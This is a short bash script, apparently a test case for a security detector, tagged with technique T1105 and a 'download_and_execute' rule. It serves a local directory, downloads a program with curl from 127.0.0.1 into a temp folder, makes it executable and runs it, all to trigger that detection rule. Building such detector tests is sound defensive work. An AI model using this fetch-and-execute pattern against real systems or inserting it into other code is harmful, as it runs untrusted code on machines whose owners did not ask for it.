# technique: T1105 a program fetched with curl from an HTTP server into /tmp, made executable, then run by a separate command
# rule: download_and_execute
# exe: /tmp/vg-attacks-*/tool
. "$(dirname "$0")/common.bash"
fetchable tool
serve_dir "$VG_TMP/www"
curl -sf -o "$VG_TMP/tool" "http://127.0.0.1:$VG_PORT/tool"
chmod +x "$VG_TMP/tool"
"$VG_TMP/tool"
